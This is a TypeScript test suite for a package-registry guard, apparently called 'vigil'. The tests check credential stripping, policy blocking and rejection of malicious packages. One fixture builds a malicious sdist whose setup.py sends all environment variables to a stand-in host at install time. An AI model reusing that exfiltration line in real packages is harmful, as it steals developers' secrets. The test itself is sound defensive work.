import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { spawnSync } from 'node:child_process';
import { makeSdist, makeWheel } from '../helpers/archives.js';
import { runCommand } from '../../src/cli/commands/run.js';
import type { CliIO } from '../../src/cli/command.js';
import { startRegistryServer } from '../helpers/registry-server.js';
import type { RegistryServer } from '../helpers/registry-server.js';

const wheel = makeWheel('goodpkg', '1.0', { 'goodpkg/__init__.py': 'VALUE = 1\n' });
const evilSdist = makeSdist('evilpkg', '1.0', {
  'setup.py': 'import os, urllib.request\nurllib.request.urlopen("http://collect.invalid/", data=repr(dict(os.environ)).encode())\n',
});
const hasPip = spawnSync('python3', ['-m', 'pip', '--version']).status === 0;
let upstream: RegistryServer;
let work = '';

before(async () => {
  work = mkdtempSync(join(tmpdir(), 'vigil-run-'));
  upstream = await startRegistryServer({
    pypi: [
      { name: 'goodpkg', files: [{ version: '1.0', filename: 'goodpkg-1.0-py3-none-any.whl', bytes: wheel }] },
      { name: 'evilpkg', files: [{ version: '1.0', filename: 'evilpkg-1.0.tar.gz', bytes: evilSdist }] },
    ],
  });
});

after(async () => {
  await upstream.close();
  rmSync(work, { recursive: true, force: true });
});

function io(env: NodeJS.ProcessEnv): { io: CliIO; err: () => string } {
  const stderr = new PassThrough();
  const stdout = new PassThrough();
  let text = '';
  stderr.on('data', (d: Buffer) => (text += d.toString()));
  stdout.resume();
  return { io: { stdout, stderr, env, cwd: work }, err: () => text };
}

function safeList(dir: string): string[] {
  try {
    return readdirSync(dir);
  } catch {
    return [];
  }
}

const baseEnv = (): NodeJS.ProcessEnv => ({
  PATH: process.env.PATH,
  HOME: work,
  VIGIL_DATA_DIR: join(work, 'data'),
  PIP_CONFIG_FILE: '/dev/null',
  PIP_DISABLE_PIP_VERSION_CHECK: '1',
});

test('the command runs without credentials, pointed at the proxy; --keep-env passes one', async () => {
  const out = join(work, 'env.json');
  const env = {
    ...baseEnv(),
    AWS_ACCESS_KEY_ID: 'AKIAABCDEFGHIJKLMNOP',
    AWS_SECRET_ACCESS_KEY: 'x'.repeat(40),
    GITHUB_TOKEN: 'ghs_' + 'a'.repeat(36),
    NODE_AUTH_TOKEN: 'npm_' + 'b'.repeat(36),
    MY_SERVICE_API_KEY: 'secret-value',
    SOMETHING: 'ghp_' + 'c'.repeat(36),
    PIP_EXTRA_INDEX_URL: 'https://elsewhere.invalid/simple/',
    HARMLESS: 'yes',
  };
  const { io: cli, err } = io(env);
  const code = await runCommand.run(
    ['--keep-env', 'NODE_AUTH_TOKEN', '--upstream-pypi', upstream.pypiIndexUrl, '--', process.execPath, '-e', `require('fs').writeFileSync(${JSON.stringify(out)}, JSON.stringify(process.env))`],
    cli,
  );
  assert.equal(code, 0, err());
  const seen = JSON.parse(readFileSync(out, 'utf8')) as Record<string, string>;
  for (const gone of ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'MY_SERVICE_API_KEY', 'SOMETHING', 'PIP_EXTRA_INDEX_URL']) assert.equal(seen[gone], undefined, gone);
  assert.equal(seen.NODE_AUTH_TOKEN, env.NODE_AUTH_TOKEN);
  assert.equal(seen.HARMLESS, 'yes');
  assert.match(seen.PIP_INDEX_URL ?? '', /^http:\/\/127\.0\.0\.1:\d+\/pypi\/simple\/$/);
  assert.match(seen.npm_config_registry ?? '', /^http:\/\/127\.0\.0\.1:\d+\/npm\/$/);
  assert.equal(seen.UV_DEFAULT_INDEX, seen.PIP_INDEX_URL);
  assert.match(err(), /removed 5 credential variable\(s\): AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN, MY_SERVICE_API_KEY, SOMETHING/);
  assert.ok(!err().includes('AKIAABCD'), 'never prints a value');
});

test('the exit code is the command’s own', async () => {
  const { io: cli } = io(baseEnv());
  assert.equal(await runCommand.run(['--', process.execPath, '-e', 'process.exit(7)'], cli), 7);
});

test('index options on the command line are refused', async () => {
  const { io: cli } = io(baseEnv());
  await assert.rejects(runCommand.run(['--', 'pip', 'install', '--index-url', 'https://x.invalid/', 'foo'], cli), /--index-url would send downloads around the guard/);
  await assert.rejects(runCommand.run(['--', 'npm', 'install', '--registry=https://x.invalid/', 'foo'], cli), /--registry/);
});

test('a missing command is a usage error', async () => {
  const { io: cli } = io(baseEnv());
  await assert.rejects(runCommand.run(['--', 'vigil-no-such-command-xyz'], cli), /command not found/);
  await assert.rejects(runCommand.run([], cli), /no command given/);
});

test('a blocked download makes vigil run exit non-zero even when the command succeeds', async () => {
  const policy = join(work, 'policy.yaml');
  writeFileSync(policy, 'deny:\n  - pypi:goodpkg==1.0\n');
  const { io: cli, err } = io(baseEnv());
  // The "installer" lists the project, then asks for the denied file anyway and ignores the 403.
  const script = `const base = process.env.PIP_INDEX_URL; (async () => {
    const page = await (await fetch(base + 'goodpkg/', { headers: { accept: 'text/html' } })).text();
    const file = await fetch(base.replace('/simple/', '/files/') + 'goodpkg/goodpkg-1.0-py3-none-any.whl');
    console.error('listed=' + page.includes('goodpkg-1.0') + ' status=' + file.status);
  })()`;
  const code = await runCommand.run(['--policy', policy, '--upstream-pypi', upstream.pypiIndexUrl, '--', process.execPath, '-e', script], cli);
  assert.equal(code, 1, err());
  assert.match(err(), /listed=false status=403/);
  assert.match(err(), /hid goodpkg 1\.0: denied by policy/);
  assert.match(err(), /BLOCKED goodpkg 1\.0 \(goodpkg-1\.0-py3-none-any\.whl\): denied by policy/);
  assert.match(err(), /blocked 1 artifact\(s\)/);
});

test('pip through vigil run with the real static analysis: benign arrives intact, malicious is refused', { skip: !hasPip }, async () => {
  const good = io(baseEnv());
  const evil = io(baseEnv());
  const dest = join(work, 'dl-real');
  const pipArgs = ['python3', '-m', 'pip', 'download', '--no-deps', '--no-cache-dir', '--timeout', '60', '-d', dest];
  const [goodCode, code] = await Promise.all([
    runCommand.run(['--upstream-pypi', upstream.pypiIndexUrl, '--', ...pipArgs, 'goodpkg==1.0'], good.io),
    runCommand.run(['--upstream-pypi', upstream.pypiIndexUrl, '--', ...pipArgs, 'evilpkg==1.0'], evil.io),
  ]);
  assert.equal(goodCode, 0, good.err());
  assert.deepEqual(new Uint8Array(readFileSync(join(dest, 'goodpkg-1.0-py3-none-any.whl'))), wheel);
  assert.notEqual(code, 0);
  assert.match(evil.err(), /BLOCKED evilpkg 1\.0 \(evilpkg-1\.0\.tar\.gz\): malicious/);
  assert.match(evil.err(), /collect\.invalid/);
  assert.match(evil.err(), /403 Client Error: Blocked by Vigil/, 'pip itself shows the reason');
  assert.ok(!safeList(dest).includes('evilpkg-1.0.tar.gz'));
});
